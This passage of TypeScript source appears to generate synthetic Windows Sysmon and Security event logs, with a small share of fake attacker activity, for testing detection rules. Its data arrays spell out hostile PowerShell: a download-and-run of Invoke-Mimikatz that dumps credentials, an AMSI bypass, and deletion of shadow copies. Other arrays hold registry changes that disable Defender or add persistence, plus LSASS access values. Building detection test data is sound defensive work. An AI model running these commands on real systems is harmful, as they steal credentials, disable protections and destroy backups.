  const keys = ['HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Explorer\\FileExts\\.txt\\OpenWithList', 'HKU\\S-1-5-21-1004336348-1177238915-682003330-1104\\Software\\Microsoft\\Office\\16.0\\Common\\Roaming\\Identities', 'HKLM\\System\\CurrentControlSet\\Services\\bam\\State\\UserSettings\\S-1-5-21-1004336348-1177238915-682003330-1104\\Device\\HarddiskVolume3\\Windows\\System32\\cmd.exe', 'HKLM\\SOFTWARE\\Microsoft\\Windows Defender\\Signature Updates\\SignaturesLastUpdated', 'HKU\\S-1-5-21-1004336348-1177238915-682003330-1104\\Software\\Google\\Chrome\\PreferenceMACs\\Default\\extensions.settings'];
  const badKeys: Array<[string, string]> = [
    ['HKU\\S-1-5-21-1004336348-1177238915-682003330-1104\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\Updater', 'C:\\Users\\Public\\update.exe'],
    ['HKLM\\SYSTEM\\CurrentControlSet\\Control\\Lsa\\DisableRestrictedAdmin', 'DWORD (0x00000000)'],
    ['HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows Defender\\DisableAntiSpyware', 'DWORD (0x00000001)'],
  ];
  const scripts = ['Get-ChildItem -Path $env:TEMP -Filter *.log | Remove-Item -Force', 'Import-Module ActiveDirectory; Get-ADUser -Filter * -Properties LastLogonDate | Export-Csv users.csv', '$PSVersionTable.PSVersion', 'Set-StrictMode -Version Latest\r\nfunction Get-DiskReport { Get-CimInstance Win32_LogicalDisk | Select-Object DeviceID, FreeSpace }'];
  const badScripts = ['IEX (New-Object Net.WebClient).DownloadString(\'http://203.0.113.7/Invoke-Mimikatz.ps1\'); Invoke-Mimikatz -DumpCreds', '[Ref].Assembly.GetType(\'System.Management.Automation.AmsiUtils\').GetField(\'amsiInitFailed\',\'NonPublic,Static\').SetValue($null,$true)', 'Get-WmiObject Win32_Shadowcopy | ForEach-Object {$_.Delete();}'];
  const mix: Array<[string, number]> = [['s1', 8], ['s3', 12], ['s7', 20], ['s10', 10], ['s11', 10], ['s12', 7], ['s13', 10], ['s22', 8], ['4624', 6], ['4625', 1], ['4688', 5], ['4104', 3]];
  const weights = mix.reduce((a, [, w]) => a + w, 0);
  const kind = () => { let x = r() * weights; for (const [k, w] of mix) { if ((x -= w) < 0) return k; } return 's7'; };
  const names: Record<string, string> = {
    s1: 'Sysmon 1 process creation', s3: 'Sysmon 3 network connection', s7: 'Sysmon 7 image load', s10: 'Sysmon 10 process access', s11: 'Sysmon 11 file creation', s12: 'Sysmon 12 registry key create/delete', s13: 'Sysmon 13 registry value set', s22: 'Sysmon 22 DNS query', 4624: 'Security 4624 logon', 4625: 'Security 4625 failed logon', 4688: 'Security 4688 process creation', 4104: 'PowerShell 4104 script block',
  };
  const counts = new Map<string, { n: number; bad: number; bytes: number }>();
  const evs: SigmaEvent[] = [];
  const lines: string[] = [];
  let bytes = 0;
  const t0 = Date.UTC(2025, 10, 24, 8, 0, 0);
  for (let i = 0; i < count; i++) {
    const k = kind();
    const evil = r() < 0.03;
    const time = new Date(t0 + i * 173).toISOString().replace('T', ' ').replace('Z', '');
    const host = pick(hosts);
    const user = pick(users);
    const [img, cmd, ofn] = pick(procs);
    const sysmon = (id: number, task: number, data: Record<string, unknown>, msg: string): SigmaEvent => ({
      EventID: id, Channel: SYSMON, SourceName: 'Microsoft-Windows-Sysmon', ProviderGuid: '{5770385f-c22a-43e0-bf4c-06f5698ffbd9}', Hostname: host, TimeCreated: time, Task: task, Level: 4, Keywords: '0x8000000000000000', EventRecordID: 100_000 + i, Version: 5, Opcode: 0,
      RuleName: '-', UtcTime: time, ...data,
      Message: `${msg}:\r\n${Object.entries(data).map(([key, v]) => `${key}: ${String(v)}`).join('\r\n')}`,
    });
    const security = (id: number, task: number, data: Record<string, unknown>, msg: string): SigmaEvent => ({
      EventID: id, Channel: 'Security', SourceName: 'Microsoft-Windows-Security-Auditing', ProviderGuid: '{54849625-5478-4994-a5ba-3e3b0328c30d}', Hostname: host, TimeCreated: time, Task: task, Level: 0, Keywords: '0x8020000000000000', EventRecordID: 5_000_000 + i, Version: 2, Opcode: 0,
      ...data,
      Message: `${msg}\r\n\r\n${Object.entries(data).map(([key, v]) => `\t${key}:\t${String(v)}`).join('\r\n')}`,
    });
    let e: SigmaEvent;
    switch (k) {
      case 's1': {
        const [bi, bc, bo, bp] = pick(bad);
        const parent = pick(procs);
        e = sysmon(1, 1, {
          ProcessGuid: guid(), ProcessId: 1000 + Math.floor(r() * 30000), Image: evil ? bi : img, FileVersion: '10.0.19041.1 (WinBuild.160101.0800)', Description: 'Windows host process', Product: 'Microsoft® Windows® Operating System', Company: 'Microsoft Corporation', OriginalFileName: evil ? bo : ofn,
          CommandLine: evil ? bc : cmd, CurrentDirectory: 'C:\\Windows\\system32\\', User: user, LogonGuid: guid(), LogonId: `0x${hex(6)}`, TerminalSessionId: 1, IntegrityLevel: pick(['Medium', 'High', 'System']),
          Hashes: `SHA1=${hex(40)},MD5=${hex(32)},SHA256=${hex(64)},IMPHASH=${hex(32)}`, ParentProcessGuid: guid(), ParentProcessId: 500 + Math.floor(r() * 9000), ParentImage: evil ? bp : parent[0], ParentCommandLine: evil ? bp : parent[1], ParentUser: user,
        }, 'Process Create');
        break;
      }
      case 's3': {
        const out = r() < 0.7;
        e = sysmon(3, 3, {
          ProcessGuid: guid(), ProcessId: 1000 + Math.floor(r() * 30000), Image: evil ? pick(['C:\\Windows\\System32\\rundll32.exe', 'C:\\Windows\\System32\\regsvr32.exe', 'C:\\Windows\\System32\\mshta.exe']) : img, User: user, Protocol: 'tcp', Initiated: out ? 'true' : 'false',
          SourceIsIpv6: 'false', SourceIp: `10.20.${Math.floor(r() * 8)}.${Math.floor(r() * 250)}`, SourceHostname: host, SourcePort: 49152 + Math.floor(r() * 16000), SourcePortName: '-',
          DestinationIsIpv6: 'false', DestinationIp: evil ? '203.0.113.7' : pick(['142.250.185.68', '20.190.159.2', '10.20.0.10', '140.82.121.4', '13.107.42.14']), DestinationHostname: evil ? '-' : pick(domains), DestinationPort: evil ? pick([4444, 8080, 443]) : pick([443, 443, 443, 80, 445, 389, 53]), DestinationPortName: '-',
        }, 'Network connection detected');
        break;
      }
      case 's7': {
        e = sysmon(7, 7, {
          ProcessGuid: guid(), ProcessId: 1000 + Math.floor(r() * 30000), Image: evil ? pick(['C:\\Windows\\System32\\notepad.exe', 'C:\\Users\\Public\\update.exe']) : img, ImageLoaded: evil ? pick(badDlls) : pick(dlls), FileVersion: '10.0.19041.3636', Description: 'Windows NT BASE API Client DLL', Product: 'Microsoft® Windows® Operating System', Company: 'Microsoft Corporation', OriginalFileName: 'kernel32',
          Hashes: `SHA1=${hex(40)},MD5=${hex(32)},SHA256=${hex(64)},IMPHASH=${hex(32)}`, Signed: evil ? 'false' : 'true', Signature: evil ? '-' : 'Microsoft Windows', SignatureStatus: evil ? 'Unavailable' : 'Valid', User: user,
        }, 'Image loaded');
        break;
      }
      case 's10': {
        e = sysmon(10, 10, {
          SourceProcessGUID: guid(), SourceProcessId: 1000 + Math.floor(r() * 30000), SourceThreadId: 4000 + Math.floor(r() * 9000), SourceImage: evil ? pick(['C:\\Users\\Public\\procdump64.exe', 'C:\\Windows\\System32\\rundll32.exe', 'C:\\Windows\\Temp\\m.exe']) : img,
          TargetProcessGUID: guid(), TargetProcessId: 600 + Math.floor(r() * 100), TargetImage: evil ? 'C:\\Windows\\system32\\lsass.exe' : pick(['C:\\Windows\\system32\\svchost.exe', 'C:\\Windows\\explorer.exe', 'C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe', 'C:\\Windows\\system32\\lsass.exe']),
          GrantedAccess: evil ? pick(['0x1010', '0x1FFFFF', '0x1410']) : pick(['0x1000', '0x1400', '0x100000', '0x3000']),
          CallTrace: evil ? 'C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|C:\\Windows\\System32\\KERNELBASE.dll+2c13e|UNKNOWN(000001F2A1B20000)' : 'C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|C:\\Windows\\System32\\KERNELBASE.dll+2c13e|C:\\Windows\\System32\\svchost.exe+4a21',
          SourceUser: user, TargetUser: 'NT AUTHORITY\\SYSTEM',
        }, 'Process accessed');
        break;
      }
      case 's11': {
        e = sysmon(11, 11, { ProcessGuid: guid(), ProcessId: 1000 + Math.floor(r() * 30000), Image: evil ? pick(['C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', 'C:\\Windows\\System32\\rundll32.exe']) : img, TargetFilename: evil ? pick(badFiles) : pick(files), CreationUtcTime: time, User: user }, 'File created');
        break;
      }
      case 's12': {
        e = sysmon(12, 12, { EventType: pick(['CreateKey', 'CreateKey', 'DeleteKey']), ProcessGuid: guid(), ProcessId: 1000 + Math.floor(r() * 30000), Image: img, TargetObject: evil ? 'HKLM\\SYSTEM\\CurrentControlSet\\Services\\PSEXESVC' : pick(keys), User: user }, 'Registry object added or deleted');
        break;
      }
      case 's13': {
        const [bk, bd] = pick(badKeys);
        e = sysmon(13, 13, { EventType: 'SetValue', ProcessGuid: guid(), ProcessId: 1000 + Math.floor(r() * 30000), Image: evil ? 'C:\\Windows\\System32\\reg.exe' : img, TargetObject: evil ? bk : pick(keys), Details: evil ? bd : pick(['DWORD (0x00000001)', 'Binary Data', '(Empty)', 'C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe']), User: user }, 'Registry value set');
        break;
      }
      case 's22': {
        e = sysmon(22, 22, { ProcessGuid: guid(), ProcessId: 1000 + Math.floor(r() * 30000), QueryName: evil ? pick(badDomains) : pick(domains), QueryStatus: '0', QueryResults: `type:  5 ${pick(domains)};::ffff:142.250.185.68;`, Image: evil ? pick(['C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', 'C:\\Windows\\System32\\certutil.exe']) : img, User: user }, 'Dns query');
        break;
      }
      case '4624':
      case '4625': {
        const failed = k === '4625';
        const target = pick(['alice', 'bob', 'carol', 'svc_backup', 'WKS-0142$', 'Administrator']);
        e = security(failed ? 4625 : 4624, 12544, {
          SubjectUserSid: 'S-1-5-18', SubjectUserName: 'WKS-0142$', SubjectDomainName: 'CORP', SubjectLogonId: '0x3e7', TargetUserSid: `S-1-5-21-1004336348-1177238915-682003330-${1100 + Math.floor(r() * 50)}`, TargetUserName: target, TargetDomainName: 'CORP', TargetLogonId: `0x${hex(7)}`,
          LogonType: evil ? pick([3, 10, 9]) : pick([2, 3, 3, 5, 7, 11]), LogonProcessName: evil ? pick(['NtLmSsp ', 'seclogo']) : pick(['User32 ', 'Kerberos', 'Advapi  ']), AuthenticationPackageName: evil ? 'NTLM' : pick(['Kerberos', 'Negotiate']), WorkstationName: evil ? pick(['kali', '-']) : host.split('.')[0], LogonGuid: guid(), TransmittedServices: '-', LmPackageName: evil ? 'NTLM V1' : '-', KeyLength: 0,
          ProcessId: '0x2d4', ProcessName: 'C:\\Windows\\System32\\lsass.exe', IpAddress: evil ? '203.0.113.50' : `10.20.${Math.floor(r() * 8)}.${Math.floor(r() * 250)}`, IpPort: String(49152 + Math.floor(r() * 16000)), ImpersonationLevel: '%%1833', RestrictedAdminMode: '-', TargetOutboundUserName: '-', TargetOutboundDomainName: '-', VirtualAccount: '%%1843', TargetLinkedLogonId: '0x0', ElevatedToken: '%%1842',
          ...(failed ? { Status: '0xc000006d', FailureReason: '%%2313', SubStatus: evil ? '0xc0000064' : '0xc000006a' } : {}),
        }, failed ? 'An account failed to log on.' : 'An account was successfully logged on.');
        break;
      }
      case '4688': {
        const [bi, bc, , bp] = pick(bad);
        const parent = pick(procs);
        e = security(4688, 13312, {
          SubjectUserSid: 'S-1-5-21-1004336348-1177238915-682003330-1104', SubjectUserName: 'alice', SubjectDomainName: 'CORP', SubjectLogonId: `0x${hex(6)}`, NewProcessId: `0x${hex(4)}`, NewProcessName: evil ? bi : img, TokenElevationType: '%%1938', ProcessId: `0x${hex(4)}`,
          CommandLine: evil ? bc : cmd, TargetUserSid: 'S-1-0-0', TargetUserName: '-', TargetDomainName: '-', TargetLogonId: '0x0', ParentProcessName: evil ? bp : parent[0], MandatoryLabel: pick(['S-1-16-8192', 'S-1-16-12288']),
        }, 'A new process has been created.');
        break;
      }
      default: {
        e = {
          EventID: 4104, Channel: 'Microsoft-Windows-PowerShell/Operational', SourceName: 'Microsoft-Windows-PowerShell', ProviderGuid: '{a0c1853b-5c40-4b15-8766-3cf1c58f985a}', Hostname: host, TimeCreated: time, Task: 2, Level: evil ? 3 : 5, Keywords: '0x0', EventRecordID: 70_000 + i, Version: 1, Opcode: 15,
          MessageNumber: 1, MessageTotal: 1, ScriptBlockText: evil ? pick(badScripts) : pick(scripts), ScriptBlockId: guid().slice(1, -1), Path: evil ? '' : 'C:\\Scripts\\maintenance.ps1',
        };
        e.Message = `Creating Scriptblock text (1 of 1):\r\n${String(e.ScriptBlockText)}\r\n\r\nScriptBlock ID: ${String(e.ScriptBlockId)}\r\nPath: ${String(e.Path)}`;
      }
    }
    const line = JSON.stringify(e);
    evs.push(e);
    lines.push(line);
    bytes += Buffer.byteLength(line) + 1;
    const c = counts.get(k) ?? { n: 0, bad: 0, bytes: 0 };
    c.n++; c.bytes += line.length;
    if (evil) c.bad++;
    counts.set(k, c);
  }
  const badAll = [...counts.values()].reduce((a, c) => a + c.bad, 0);
  return {
    events: evs, lines, bytes,
    description: [
      `synthetic (seed ${seed}): a Windows host with Sysmon and Security auditing, flat rendering (as NXLog and the OTRF datasets write it), ${((100 * badAll) / count).toFixed(1)}% attacker activity (encoded PowerShell, LSASS dumps, LOLBin downloads, Run keys, tunnelling domains...)`,
      ...mix.map(([key]) => { const c = counts.get(key) ?? { n: 0, bad: 0, bytes: 0 }; return `${names[key]}: ${((100 * c.n) / count).toFixed(1)}%, ${c.bad} attacker events, ${c.n ? Math.round(c.bytes / c.n) : 0} B/event`; }),
    ],
  };
}
